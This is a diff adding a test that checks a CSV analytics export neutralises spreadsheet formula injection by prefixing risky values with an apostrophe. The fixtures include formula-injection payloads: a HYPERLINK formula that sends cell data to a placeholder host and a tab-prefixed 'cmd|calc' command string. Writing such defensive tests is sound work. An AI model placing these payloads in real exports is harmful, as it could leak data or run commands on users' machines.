@@ -234,6 +234,51 @@ describe.each(TEST_DIALECTS)('analytics on %s', (dialect) => {
       expect(response.body).toContain('"blade ""A""; speed 3\nsecond line"');
     });
 
+    it("prefixes with ' every typed text that a spreadsheet would run: = + - @ tab and carriage return", async () => {
+      const member = await t.given.member();
+      // Usernames refuse '@' and white space today; the export does not rely on that.
+      const username = `-${member.username}`;
+      await t.database.db.updateTable('users').set({ username }).where('id', '=', member.id).execute();
+      const cases = [
+        { name: '=HYPERLINK("http://x.example/?"&A1;"open")', start: '+1+1', end: '@SUM(A1:A2)' },
+        { name: '+plus', start: '\tcmd|calc', end: '\r=1+1' },
+        { name: '@at', start: '-2-3', end: '=cmd' },
+        { name: '-minus', start: 'plain', end: '' },
+      ];
+      for (const [index, item] of cases.entries()) {
+        const resource = await given.resource(manager, { name: item.name });
+        const start = new Date(Date.UTC(2012, 0, 1, 10 + index));
+        await session(
+          resource.id,
+          member.id,
+          start.toISOString(),
+          new Date(start.getTime() + 30 * 60_000).toISOString(),
+          {
+            start: item.start,
+            end: item.end,
+          },
+        );
+      }
+      const columns = 'resourceName,username,startNotes,endNotes,usageInHours';
+      const response = await csv(`${range(2012)}&columns=${columns}`);
+      expect(response.statusCode).toBe(200);
+      expect(parseCsv(response.body)).toEqual([
+        columns.split(','),
+        ...cases.map((item) => [
+          `'${item.name}`,
+          `'${username}`,
+          item.start === 'plain' ? 'plain' : `'${item.start}`,
+          item.end === '' ? '' : `'${item.end}`,
+          '0.50',
+        ]),
+      ]);
+      // The prefix sits inside the quotes of a value that needs them.
+      expect(response.body).toContain(`"'=HYPERLINK(""http://x.example/?""&A1;""open"")"`);
+
+      const grouped = await csv(`${range(2012)}&groupByUserAndResource=true&columns=resourceName,username`);
+      expect(parseCsv(grouped.body).slice(1)).toEqual(cases.map((item) => [`'${item.name}`, `'${username}`]));
+    });
+
     it('keeps multi-byte text and notes longer than a send buffer whole across its 64 KiB chunks', async () => {
       const resource = await given.resource(manager, { name: 'Drehbank für Öl; 🛠' });
       const member = await t.given.member();
